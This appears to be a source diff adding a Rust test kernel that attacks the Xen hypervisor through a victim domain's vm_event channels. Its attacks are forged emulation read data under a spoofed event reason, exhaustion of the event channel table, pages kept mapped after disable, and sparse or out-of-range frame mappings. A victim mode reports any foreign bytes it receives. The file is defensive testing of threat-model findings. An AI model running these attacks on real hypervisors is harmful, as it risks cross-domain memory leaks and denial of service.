@@ -1,0 +1,434 @@
+//! The attack kernel (issue 12): a test, not part of the product. Labelled
+//! `vmi_stub_t`, it is a hostile consumer of its victim's vm_event channels
+//! and attacks Xen through them, one finding of docs/threat-model.md per
+//! `attack=`; labelled `vmi_target_t` (`role=victim`), it is the victim and
+//! reports what the attack did to it. Every line starts with `attack NAME:`
+//! or `victim:`; the nested test (tests/tests/attacks.rs) reads them and
+//! Xen's console.
+//!
+//! Command line:
+//! - `role=victim probes=N seconds=S`: vCPU 0 runs N probes of the
+//!   emulator (a monitored `wrmsr` followed by a `rep movsb` of 1 KiB, see
+//!   [`probe`]) and reports the bytes that arrived; every vCPU then exits
+//!   to Xen in a loop (CPUID) until S seconds after boot, then powers off.
+//! - `role=attacker attack=NAME target=DOMID rounds=N`, NAME one of
+//!   `emul-read` (finding 3), `enable-fail` (2), `pin` (5 and 7: pages kept
+//!   past DISABLE, scrubbing), `gfns` (4).
+#![no_std]
+#![no_main]
+
+extern crate alloc;
+
+use alloc::vec;
+use alloc::vec::Vec;
+use core::arch::asm;
+use core::sync::atomic::{AtomicU64, Ordering};
+
+use boot::cmdline::{Cmdline, CmdlineError};
+use boot::xen::{XenError, DOMID_SELF};
+use boot::{println, smp, time, BootInfo};
+use vmevent::abi::domctl::{XenDomctlMonitorOp, XenVmEventOpChannels};
+use vmevent::abi::{
+    VmEventFlags, VM_EVENT_INTERFACE_VERSION, VM_EVENT_REASON_DESCRIPTOR_ACCESS,
+    VM_EVENT_REASON_MOV_TO_MSR, VM_EVENT_SLOT_FINISH, VM_EVENT_SLOT_SUBMIT,
+};
+use vmevent::shm::{AsyncRingPtr, SlotArea, SlotMem};
+
+boot::entry!(main);
+
+const KNOWN: &[&str] = &["role", "probes", "seconds", "attack", "target", "rounds"];
+
+/// `MSR_IA32_MC0_CTL`: Xen's vMCE ignores what a guest writes there, and its
+/// index (0x400) is what `rcx` holds after the `wrmsr`: the `rep movsb`
+/// right behind it copies 1 KiB.
+const PROBE_MSR: u32 = 0x400;
+const PROBE_LEN: usize = PROBE_MSR as usize;
+/// The victim's source bytes, and what the attacker offers as read data.
+const OWN: u8 = 0x5a;
+const OFFERED: u8 = 0xa5;
+
+fn main(info: &'static BootInfo<'static>) {
+    let c = match Cmdline::from_bytes(info.cmdline) {
+        Ok(c) => c,
+        Err(e) => boot::config_error(format_args!("attack: bad command line: {e}")),
+    };
+    if let Err(e) = dispatch(&c) {
+        boot::config_error(format_args!("attack: bad command line: {e}"));
+    }
+    boot::poweroff();
+}
+
+fn dispatch(c: &Cmdline<'static>) -> Result<(), CmdlineError<'static>> {
+    c.validate(KNOWN)?;
+    match c.choice("role", "attacker", &["attacker", "victim"])? {
+        "victim" => {
+            victim(
+                c.number("probes", 0, 0, 1000)?,
+                c.number("seconds", 10, 1, 600)?,
+            );
+            Ok(())
+        }
+        _ => {
+            let attack = c.choice(
+                "attack",
+                "emul-read",
+                &["emul-read", "enable-fail", "pin", "gfns"],
+            )?;
+            let t = c.number("target", 0, 1, 0x7fef)? as u16;
+            let rounds = c.number("rounds", 10, 1, 1_000_000)?;
+            println!("attack {attack}: against domain {t}, {rounds} round(s)");
+            let r = match attack {
+                "emul-read" => emul_read(t, rounds),
+                "enable-fail" => enable_fail(t, rounds),
+                "pin" => pin(t, rounds),
+                _ => gfns(t, rounds),
+            };
+            match r {
+                Ok(()) => println!("attack {attack}: done"),
+                Err(e) => println!("attack {attack}: stopped: {e}"),
+            }
+            Ok(())
+        }
+    }
+}
+
+// ---------------------------------------------------------------- victim
+
+static EXITS: AtomicU64 = AtomicU64::new(0);
+
+fn victim(probes: u64, seconds: u64) {
+    println!("victim: up, {} vCPU(s)", smp::nr_vcpus());
+    let until = boot::boot_time_ns() + seconds * 1_000_000_000;
+    let r = smp::start_all(|id| {
+        if id == 0 && probes > 0 {
+            run_probes(probes);
+        }
+        let mut n = 0u64;
+        while time::now_ns() < until {
+            // CPUID always exits to Xen, which runs hvm_do_resume() (and
+            // reads v->arch.vm_event) on the way back.
+            core::hint::black_box(core::arch::x86_64::__cpuid(0));
+            n += 1;
+        }
+        EXITS.fetch_add(n, Ordering::Relaxed);
+    });
+    if let Err((id, e)) = r {
+        println!("victim: vCPU {id} did not start: {e}");
+    }
+    println!("victim: done, {} exits", EXITS.load(Ordering::Relaxed));
+}
+
+/// Counts of what one probe's destination received.
+#[derive(Default, Clone, Copy)]
+struct Bytes {
+    own: u64,
+    offered: u64,
+    zero: u64,
+    foreign: u64,
+}
+
+fn run_probes(probes: u64) {
+    let src = boot::alloc_ram_frames(2).expect("victim: two free frames") as *mut u8;
+    // SAFETY: both frames are ours (just allocated, identity mapped).
+    let dst = unsafe { src.add(4096) };
+    let mut total = Bytes::default();
+    let mut sample: Option<[u8; 32]> = None;
+    for _ in 0..probes {
+        // SAFETY: src and dst are two whole frames of ours.
+        unsafe {
+            core::ptr::write_bytes(src, OWN, 4096);
+            core::ptr::write_bytes(dst, 0, 4096);
+        }
+        probe(src, dst);
+        for i in 0..PROBE_LEN {
+            // SAFETY: i < 4096, within dst.
+            let b = unsafe { dst.add(i).read_volatile() };
+            match b {
+                OWN => total.own += 1,
+                OFFERED => total.offered += 1,
+                0 => total.zero += 1,
+                _ => {
+                    total.foreign += 1;
+                    if sample.is_none() {
+                        let mut s = [0u8; 32];
+                        let from = i.min(PROBE_LEN - 32);
+                        // SAFETY: from + 32 <= PROBE_LEN <= 4096.
+                        unsafe {
+                            core::ptr::copy_nonoverlapping(dst.add(from), s.as_mut_ptr(), 32)
+                        };
+                        sample = Some(s);
+                    }
+                }
+            }
+        }
+        time::sleep_ns(5_000_000);
+    }
+    println!(
+        "victim: {probes} probe(s) of {PROBE_LEN} bytes: own {} offered {} zero {} foreign {}",
+        total.own, total.offered, total.zero, total.foreign
+    );
+    if let Some(s) = sample {
+        println!("victim: foreign bytes, first 32 at the first one: {s:02x?}");
+    }
+}
+
+/// `wrmsr` to [`PROBE_MSR`] (monitored by the attacker, so the vCPU stops
+/// right after it) immediately followed by `rep movsb` of `rcx` = 0x400
+/// bytes from `src` to `dst`. An answer that makes Xen emulate the `rep
+/// movsb` with the consumer's read data decides what lands in `dst`.
+fn probe(src: *const u8, dst: *mut u8) {
+    // SAFETY: writes to MC0_CTL are ignored by Xen's vMCE; the copy moves
+    // PROBE_LEN bytes between our own two frames (rsi, rdi), direction
+    // flag clear per the ABI.
+    unsafe {
+        asm!(
+            "wrmsr",
+            "rep movsb",
+            inout("ecx") PROBE_MSR => _,
+            in("eax") 0u32,
+            in("edx") 0u32,
+            inout("rsi") src => _,
+            inout("rdi") dst => _,
+            options(nostack),
+        );
+    }
+}
+
+// -------------------------------------------------------------- attacker
+
+/// Enabled and mapped channels of the victim.
+struct Channels {
+    ch: XenVmEventOpChannels,
+    gfns: Vec<u64>,
+}
+
+impl Channels {
+    fn open(t: u16, ring_frames: u32) -> Result<Self, XenError> {
+        let ch = xenctl::enable_channels(t, ring_frames)?;
+        let frames = u64::from(ring_frames + ch.slot_frames);
+        let base = boot::alloc_gfns(frames).expect("free guest frames");
+        let mut gfns: Vec<u64> = (base..base + frames).collect();
+        if let Err(e) = xenctl::acquire_channels(t, &mut gfns) {
+            let _ = xenctl::disable_channels(t);
+            return Err(e);
+        }
+        Ok(Self { ch, gfns })
+    }
+
+    fn va(&self) -> *mut u8 {
+        (self.gfns[0] << 12) as *mut u8
+    }
+
+    fn slots(&self, ring_frames: u32) -> SlotArea {
+        // SAFETY: the slot frames follow the ring frames in our mapping,
+        // which stays until `unmap`.
+        unsafe { SlotArea::new(self.va().add(ring_frames as usize * 4096), self.ch.nr_vcpus) }
+    }
+
+    /// Nonzero bytes in all our mapped frames.
+    fn nonzero_bytes(&self) -> usize {
+        let len = self.gfns.len() * 4096;
+        // SAFETY: len bytes from va are our mapping.
+        (0..len)
+            .filter(|&i| unsafe { self.va().add(i).read_volatile() } != 0)
+            .count()
+    }
+
+    fn unmap(&mut self) {
+        for g in self.gfns.drain(..) {
+            if let Err(e) = xenctl::remove_from_physmap(g) {
+                println!("attack: removing the mapping at gfn {g:#x}: {e}");
+            }
+        }
+    }
+}
+
+/// Finding 3: answer every MSR write with EMULATE + SET_EMUL_READ_DATA of
+/// 4096 bytes under another reason (DESCRIPTOR_ACCESS honours EMULATE), and
+/// DENY (so the write is dropped when Xen binds the real reason).
+fn emul_read(t: u16, rounds: u64) -> Result<(), XenError> {
+    xenctl::pause(t)?;
+    let mut c = Channels::open(t, 1)?;
+    xenctl::monitor(t, XenDomctlMonitorOp::mov_to_msr(PROBE_MSR, true))?;
+    xenctl::unpause(t)?;
+    println!("attack emul-read: armed");
+    let slots = c.slots(1);
+    let mut served = 0u64;
+    let deadline = time::now_ns() + 120_000_000_000;
+    while served < rounds && time::now_ns() < deadline {
+        for i in 0..c.ch.nr_vcpus {
+            let slot = slots.slot(i).expect("slot in range");
+            if slot.load_state(Ordering::Acquire) != VM_EVENT_SLOT_SUBMIT {
+                continue;
+            }
+            let req = slot.read_event();
+            if req.reason != VM_EVENT_REASON_MOV_TO_MSR {
+                println!("attack emul-read: unexpected reason {}", req.reason);
+            }
+            let mut rsp = req;
+            rsp.version = VM_EVENT_INTERFACE_VERSION;
+            rsp.reason = VM_EVENT_REASON_DESCRIPTOR_ACCESS;
+            rsp.flags = (VmEventFlags::VCPU_PAUSED
+                | VmEventFlags::EMULATE
+                | VmEventFlags::SET_EMUL_READ_DATA
+                | VmEventFlags::DENY)
+                .bits();
+            rsp.set_emul_read_data(&[OFFERED; 512]);
+            rsp.set_emul_read_size(4096);
+            slot.write_event(&rsp);
+            slot.store_state(VM_EVENT_SLOT_FINISH, Ordering::Release);
+            xenctl::resume(t)?;
+            served += 1;
+        }
+        core::hint::spin_loop();
+    }
+    println!(
+        "attack emul-read: answered {served} MSR write(s) with EMULATE|SET_EMUL_READ_DATA size 4096 as descriptor_access"
+    );
+    let _ = xenctl::monitor_off(t, XenDomctlMonitorOp::mov_to_msr(PROBE_MSR, true));
+    xenctl::disable_channels(t)?;
+    c.unmap();
+    Ok(())
+}
+
+/// Finding 2: fill the victim's event channel table with ports of ours, then
+/// make ENABLE_CHANNELS fail after it set up the per-vCPU state, again and
+/// again, while the victim's vCPUs keep exiting to Xen.
+fn enable_fail(t: u16, rounds: u64) -> Result<(), XenError> {
+    let mut ports = 0u32;
+    let full = loop {
+        match xenctl::alloc_unbound_in(t, DOMID_SELF) {
+            Ok(_) => ports += 1,
+            Err(e) => break e,
+        }
+        if ports > 1 << 17 {
+            println!("attack enable-fail: the table never filled");
+            return Ok(());
+        }
+    };
+    println!("attack enable-fail: victim's table full after {ports} port(s) of ours ({full})");
+    let (mut refused, mut enabled) = (0u64, 0u64);
+    let mut last = None;
+    for _ in 0..rounds {
+        match xenctl::enable_channels(t, 1) {
+            Ok(_) => {
+                enabled += 1;
+                xenctl::disable_channels(t)?;
+            }
+            Err(e) => {
+                refused += 1;
+                last = Some(e);
+            }
+        }
+    }
+    match last {
+        Some(e) => println!(
+            "attack enable-fail: {rounds} ENABLE_CHANNELS: {refused} refused ({e}), {enabled} enabled"
+        ),
+        None => println!("attack enable-fail: {rounds} ENABLE_CHANNELS: all enabled"),
+    }
+    Ok(())
+}
+
+/// Findings 5 and 7: ENABLE, map everything, DISABLE keeping the mapping,
+/// `rounds` times; then look at what the kept pages hold, let go, and
+/// ENABLE once more.
+fn pin(t: u16, rounds: u64) -> Result<(), XenError> {
+    const RING_FRAMES: u32 = 16;
+    let mut kept: Vec<Channels> = Vec::new();
+    let mut refused = 0u64;
+    for r in 0..rounds {
+        match Channels::open(t, RING_FRAMES) {
+            Ok(c) => {
+                // SAFETY: the ring header is in our mapping.
+                let ring = unsafe { AsyncRingPtr::new(c.va(), RING_FRAMES) };
+                let live = ring.nr_entries_word().load(Ordering::Relaxed);
+                xenctl::disable_channels(t)?;
+                if r == 0 {
+                    println!(
+                        "attack pin: scrub: ring header nr_entries {live} while open, {} after DISABLE; {} nonzero byte(s) left in the {} kept page(s)",
+                        ring.nr_entries_word().load(Ordering::Relaxed),
+                        c.nonzero_bytes(),
+                        c.gfns.len()
+                    );
+                }
+                kept.push(c);
+            }
+            Err(e) => {
+                refused += 1;
+                if refused == 1 {
+                    println!("attack pin: round {r}: ENABLE_CHANNELS refused ({e})");
+                }
+            }
+        }
+    }
+    let pages: usize = kept.iter().map(|c| c.gfns.len()).sum();
+    println!(
+        "attack pin: {rounds} round(s): {} enabled, {refused} refused; {pages} closed-channel page(s) still mapped",
+        kept.len()
+    );
+    for c in kept.iter_mut() {
+        c.unmap();
+    }
+    match Channels::open(t, RING_FRAMES) {
+        Ok(mut c) => {
+            println!("attack pin: after unmapping, ENABLE_CHANNELS ok");
+            xenctl::disable_channels(t)?;
+            c.unmap();
+        }
+        Err(e) => println!("attack pin: after unmapping, ENABLE_CHANNELS refused ({e})"),
+    }
+    Ok(())
+}
+
+/// Finding 4: mappings at sparse GFNs (each a range of Xen's records), and
+/// mappings that fail (GFNs beyond the address width), `rounds` each.
+fn gfns(t: u16, rounds: u64) -> Result<(), XenError> {
+    let mut c = Channels::open(t, 1)?;
+    println!("attack gfns: start");
+    time::sleep_ns(3_000_000_000);
+    let base = boot::alloc_gfns(2 * rounds).expect("free guest frames");
+    let mut placed = vec![];
+    let mut stop = None;
+    for k in 0..rounds {
+        let g = base + 2 * k;
+        match xenctl::acquire_channel_frames(t, 0, &mut [g]) {
+            Ok(()) => placed.push(g),
+            Err(e) => {
+                stop = Some(e);
+                break;
+            }
+        }
+    }
+    match stop {
+        Some(e) => println!(
+            "attack gfns: {} sparse mapping(s) placed, then refused ({e})",
+            placed.len()
+        ),
+        None => println!("attack gfns: {} sparse mapping(s) placed", placed.len()),
+    }
+    let mut failed = 0u64;
+    let mut last = None;
+    for k in 0..rounds * 10 {
+        if let Err(e) = xenctl::acquire_channel_frames(t, 0, &mut [(1 << 40) + 2 * k]) {
+            failed += 1;
+            last = Some(e);
+        }
+    }
+    println!(
+        "attack gfns: {} mapping(s) beyond the address width, {failed} failed{}",
+        rounds * 10,
+        match last {
+            Some(e) => alloc::format!(" ({e})"),
+            None => alloc::string::String::new(),
+        }
+    );
+    println!("attack gfns: holding");
+    time::sleep_ns(5_000_000_000);
+    for g in placed {
+        let _ = xenctl::remove_from_physmap(g);
+    }
+    xenctl::disable_channels(t)?;
+    c.unmap();
+    Ok(())
+}
